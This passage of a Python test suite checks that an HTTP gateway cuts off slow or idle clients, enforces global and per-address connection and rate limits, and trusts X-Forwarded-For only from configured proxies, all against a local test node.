        elapsed, status = self.slow_client(b"GET /v1/speakers HTTP/1.1\r\nHost: x\r\n", b"X-Slow: " + b"a" * 60)
        self.assertLess(elapsed, READ_TIMEOUT_S + 3)
        self.assertTrue(status is None or 400 <= status < 500, status)

    def test_slow_body_is_cut_off(self):
        head = (b"POST /v1/speakers HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                b"Authorization: Bearer " + self.admin.encode() + b"\r\nContent-Length: 100\r\n\r\n")
        elapsed, status = self.slow_client(head, b'{"speaker_id": "slow", "client_id": "c"' + b" " * 60)
        self.assertLess(elapsed, READ_TIMEOUT_S + 3)
        self.assertTrue(status is None or 400 <= status < 500, status)
        self.assertEqual(self.node.request("GET", "/v1/speakers/slow", token=self.admin).status, 404)

    def test_idle_connection_is_cut_off(self):
        started = time.time()
        with socket.create_connection(("127.0.0.1", self.node.port), timeout=4 * READ_TIMEOUT_S) as s:
            try:
                data = s.recv(100)
            except ConnectionResetError:
                data = b""
        self.assertEqual(data, b"")
        self.assertLess(time.time() - started, READ_TIMEOUT_S + 3)

    def test_many_slow_clients_do_not_starve_others(self):
        sockets = []
        try:
            for _ in range(40):
                s = socket.create_connection(("127.0.0.1", self.node.port), timeout=5)
                s.sendall(b"GET /v1/speakers HTTP/1.1\r\n")
                sockets.append(s)
            started = time.time()
            r = self.node.request("GET", "/v1/speakers/control", token=self.admin)
            self.assertEqual(r.status, 200, r)
            self.assertLess(time.time() - started, 2)
        finally:
            for s in sockets:
                s.close()


class ConnectionLimit(unittest.TestCase):
    def test_connections_over_the_limit_wait_and_idle_ones_are_reclaimed(self):
        node = Node(extra_flags=["--gateway.max-connections=4", f"--gateway.read-timeout={READ_TIMEOUT_S}s"])
        try:
            token = node.token("qa")
            hogs = [socket.create_connection(("127.0.0.1", node.port), timeout=5) for _ in range(4)]
            try:
                # Each hog is served once, so all four are known to hold a slot (not merely queued
                # in the kernel) before the fifth connects; then they idle on keep-alive.
                for h in hogs:
                    h.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
                    answer = b""
                    while b"\r\n\r\n" not in answer:
                        chunk = h.recv(4096)
                        self.assertTrue(chunk, "a hog was closed before it was served")
                        answer += chunk
                    self.assertTrue(answer.startswith(b"HTTP/1.1 200"), answer[:200])
                conn = http.client.HTTPConnection("127.0.0.1", node.port, timeout=1.5)
                with self.assertRaises((socket.timeout, TimeoutError)):
                    conn.request("GET", "/healthz")
                    conn.getresponse()
                conn.close()
                # the idle connections are cut off by the read timeout, and service resumes
                node.wait_until(lambda: node.request("GET", "/v1/speakers?limit=1", token=token).status == 200,
                                READ_TIMEOUT_S + 5, "the node never served again")
            finally:
                for h in hogs:
                    h.close()
        finally:
            node.stop()


def connect_from(address, port, timeout=5):
    return socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(address, 0))


def closed_by_server(s):
    """True once the server has closed `s` (without sending anything)."""
    ready, _, _ = select.select([s], [], [], 0)
    if not ready:
        return False
    try:
        return s.recv(1) == b""
    except (ConnectionResetError, socket.timeout):
        return True


def raw_get(address, port, path=b"/healthz", timeout=5):
    """The status of GET path from a client at `address`, or None when the server closed first."""
    try:
        with connect_from(address, port, timeout) as s:
            s.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            data = b""
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
    except (ConnectionResetError, BrokenPipeError):
        return None
    return status_of(data)


class ConnectionsPerAddress(unittest.TestCase):
    def test_one_address_cannot_starve_another_ones_health_check(self):
        node = Node(extra_flags=["--gateway.max-connections=12", "--gateway.max-connections-per-address=4",
                                 "--gateway.read-timeout=60s"])
        hogs = []
        try:
            for _ in range(20):
                try:
                    hogs.append(connect_from("127.0.0.1", node.port))
                except OSError:
                    pass
            # the server keeps at most 4 of them and closes the rest at once
            node.wait_until(lambda: sum(closed_by_server(h) for h in hogs) >= len(hogs) - 4, 10,
                            "the server kept more than 4 connections from one address")
            # all global slots would be taken without the per-address limit; another address gets in
            for _ in range(3):
                self.assertEqual(raw_get("127.0.0.2", node.port), 200)
        finally:
            for h in hogs:
                h.close()
            node.stop()

    def test_new_connections_per_address_are_rate_limited(self):
        node = Node(extra_flags=["--gateway.connection-rate=1", "--gateway.connection-burst=3"])
        try:
            statuses = [raw_get("127.0.0.2", node.port) for _ in range(10)]
            # the burst (3) plus at most one more per second the loop took
            self.assertGreaterEqual(statuses.count(None), 4, statuses)
            self.assertIn(200, statuses)
            # another address has its own allowance
            self.assertEqual(raw_get("127.0.0.3", node.port), 200)
        finally:
            node.stop()

    def test_forwarded_for_counts_only_from_trusted_proxies(self):
        node = Node(extra_flags=["--gateway.trusted-proxies=127.0.0.2", "--gateway.rate-limit=0.01",
                                 "--gateway.rate-burst=2"])

        def status(address, forwarded):
            with connect_from(address, node.port) as s:
                s.sendall(b"GET /no/such/path HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: " + forwarded +
                          b"\r\nConnection: close\r\n\r\n")
                data = b""
                while True:
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    data += chunk
            return status_of(data)

        try:
            # behind the trusted proxy each client has its own allowance (requests refused before
            # authentication count against the client's address)
            self.assertEqual([status("127.0.0.2", b"198.51.100.7") for _ in range(3)], [404, 404, 429])
            self.assertEqual(status("127.0.0.2", b"203.0.113.1, 198.51.100.8"), 404)
            # an untrusted peer's X-Forwarded-For is ignored: it is one client whatever it claims
            self.assertEqual([status("127.0.0.3", b"198.51.100.%d" % i) for i in range(3)], [404, 404, 429])
        finally:
            node.stop()


if __name__ == "__main__":
    unittest.main()
